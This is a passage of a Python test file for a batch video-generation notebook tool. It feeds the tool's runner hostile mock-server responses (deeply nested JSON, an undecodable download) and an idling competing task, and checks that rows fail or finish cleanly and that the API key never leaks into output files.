        if req.path == "/model/v1/generation/task/t-nested":
            return p.respond(conn, 200, b"[" * 100_000 + b"]" * 100_000, {"Content-Type": "application/json"})
        if "/task/" in req.path:
            bad = req.path.endswith("/t-baddl")
            content = {"type": "video", "url": f"{p.url}/{'bad' if bad else 'video'}.mp4?token={key}",
                       "size": 5000 if bad else len(video)}
            return p.json(conn, 200, {"id": req.path.rsplit("/", 1)[-1], "status": "completed",
                                      "output": [{"content": [content]}],
                                      "usage": {"cost": "0.30", "extra_info": {"billed_to": key}}})
        if req.path.startswith("/bad.mp4"):
            return p.respond(conn, 200, b"\x00" * 5000, {"Content-Type": "video/mp4"})
        if req.path.startswith("/video.mp4"):
            return p.respond(conn, 200, video, {"Content-Type": "video/mp4"})
        p.json(conn, 404, {"message": "no"})

    started = peers()
    api = next(started)(hostile)
    try:
        monkeypatch.setenv("VTRIX_API_KEY", TEST_KEY)
        monkeypatch.setenv("VTRIX_GENERATION_URL", api.url)
        monkeypatch.setenv("SPARK_NB_BACKEND", "cloud")
        manifest = write_manifest(tmp_path, [
            {"name": kind, "model": "avatar", "image": f"https://inputs.example/{kind}.jpg",
             "audio": "https://inputs.example/a.wav"} for kind in ("ok", "nested", "baddl")])
        out = tmp_path / "out"
        outcomes = {o.name: o for o in run_batch(manifest, out, concurrency=3, progress=False, timeout=8)}
    finally:
        next(started, None)  # stops the peer
    assert outcomes["ok"].status == "completed" and (out / "ok" / "ok.ipynb").is_file()
    with (out / "results.csv").open(newline="") as f:
        table = {row["name"]: row for row in csv.DictReader(f)}
    listed = {row["name"]: row for row in json.loads((out / "rows.json").read_text())["rows"]}
    for name, reason in (("nested", "JSON nested deeper than 64 levels"), ("baddl", "cannot be decoded")):
        said = json.loads((out / name / "result.json").read_text())["error"]
        assert reason in said and outcomes[name].error == said, (name, outcomes[name].error, said)
        assert listed[name]["error"] == said and table[name]["error"].split() == said.split()  # the CSV: one line
        assert outcomes[name].status == "unfinished" and not (out / name / f"{name}.ipynb").exists()
    home = Path(os.environ["SPARK_NB_HOME"])
    for path in [*tmp_path.rglob("*"), *home.rglob("*")]:
        if path.is_file():
            assert TEST_KEY.encode() not in path.read_bytes(), path


def test_a_batch_row_does_not_wait_its_timeout_for_a_task_nobody_waits_for(
        tmp_path: Path, media: dict[str, Path], make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """The batch side of an attack: another kernel submit()s a task of a model whose cost is unknown, then idles.
    Under a budget the batch's row waited for that task to end in the journal, which nobody would record: its
    whole timeout (30 min by default). Now the row tries again every COST_RECHECK_S; its try asks the service once,
    records the task's end and cost, and the row completes."""
    import textwrap

    from spark_nb.batch import _runner

    monkeypatch.setattr(_runner, "COST_RECHECK_S", 1.0, raising=False)
    server = make_server(api_key=TEST_KEY, cost_per_second=0.25, latency=3)
    use_server(monkeypatch, server)
    monkeypatch.setenv("SPARK_NB_BUDGET_USD", "50")
    idle = textwrap.dedent("""
        import sys, spark_nb
        task = spark_nb.avatar.submit(sys.argv[1], sys.argv[2])
        print(task.id, flush=True)
        sys.stdin.readline()
    """)
    kid = subprocess.Popen([sys.executable, "-c", idle, str(media["portrait"]), str(media["speech_mp3"])],
                           stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert kid.stdout is not None and kid.stdout.readline().strip()
        manifest = write_manifest(tmp_path, [{"name": "one", "model": "avatar", "image": str(media["portrait"]),
                                              "audio": str(media["speech"])}])
        began = time.monotonic()
        outcomes = run_batch(manifest, tmp_path / "out", progress=False, timeout=300)
        assert [o.status for o in outcomes] == ["completed"], [o.error for o in outcomes]
        assert time.monotonic() - began < 150  # a guard: the row waited 300 s (its timeout) before
        assert server.stats()["created"] == 2 and kid.poll() is None
    finally:
        kid.kill()
        kid.wait(timeout=30)
